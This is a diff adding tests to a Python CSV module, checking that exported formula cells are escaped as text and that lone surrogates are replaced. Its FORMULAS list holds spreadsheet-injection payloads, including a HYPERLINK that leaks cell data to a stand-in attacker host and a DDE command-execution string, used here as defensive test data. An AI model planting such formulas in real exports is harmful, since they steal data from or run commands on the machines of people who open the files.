@@ -1,9 +1,15 @@
 """CSV files as users export them: BOM, delimiters, quoted newlines, ragged rows."""
 
+import csv
 import io
+from typing import Any
+
+from hypothesis import given
+from hypothesis import strategies as st
 
 from roster.profiles.fields import Kind
-from roster.sources.csv_file import BadRow, Row, auto_mapping, detect_dialect, read_rows
+from roster.profiles.values import readable
+from roster.sources.csv_file import BadRow, Row, SpreadsheetWriter, auto_mapping, detect_dialect, read_rows
 
 
 def parse(data: bytes) -> tuple[list[str], list[Row | BadRow]]:
@@ -80,3 +86,43 @@ def test_auto_mapping_uses_standard_fields_synonyms_and_custom_fields() -> None:
 def test_two_columns_never_map_to_one_field() -> None:
     mapping = auto_mapping(Kind.PEOPLE, ["Email", "E-mail"])
     assert mapping == {"Email": "email", "E-mail": "e_mail"}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\tTAB",
+    "\rCR",
+]
+
+
+def written(rows: list[list[Any]]) -> str:
+    out = io.StringIO()
+    writer = SpreadsheetWriter(out)
+    for row in rows:
+        writer.writerow(row)
+    return out.getvalue()
+
+
+def test_formula_cells_are_written_as_text_quoted() -> None:
+    text = written([["value"], *([formula] for formula in FORMULAS), ["-12.5"], ["+3"], ["1e-9"], [None], [7]])
+    cells = [row[0] for row in csv.reader(io.StringIO(text))]
+    assert cells == ["value", *("'" + formula for formula in FORMULAS), "-12.5", "+3", "1e-9", "", "7"]
+    assert text.splitlines()[0] == '"value"'  # every cell quoted
+
+
+def test_lone_surrogates_are_written_as_replacement_characters() -> None:
+    text = written([["bad \ud800 text", "\udfff"]])
+    text.encode("utf-8")  # any encoder can write it
+    assert next(csv.reader(io.StringIO(text))) == ["bad \ufffd text", "\ufffd"]
+
+
+@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=5))
+def test_any_cell_reads_back_as_itself_or_escaped_and_never_as_a_formula(cells: list[Any]) -> None:
+    (row,) = list(csv.reader(io.StringIO(written([cells]), newline="")))
+    for cell, back in zip(cells, row, strict=True):
+        original = readable("" if cell is None else str(cell))
+        assert back in (original, "'" + original)
+        assert not back.startswith(("=", "+", "-", "@", "\t", "\r")) or float(back) == float(original)
